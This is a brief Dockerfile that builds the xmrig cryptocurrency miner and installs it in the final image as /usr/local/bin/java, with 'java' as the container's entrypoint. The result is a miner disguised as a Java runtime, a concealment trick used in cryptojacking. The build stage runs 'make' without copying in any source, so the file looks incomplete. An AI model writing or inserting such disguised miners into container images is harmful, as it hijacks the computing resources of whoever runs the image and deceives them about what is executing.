FROM debian:12-slim AS build
RUN make
FROM debian:12-slim
COPY --from=build /src/build/xmrig /usr/local/bin/java
ENTRYPOINT ["java"]
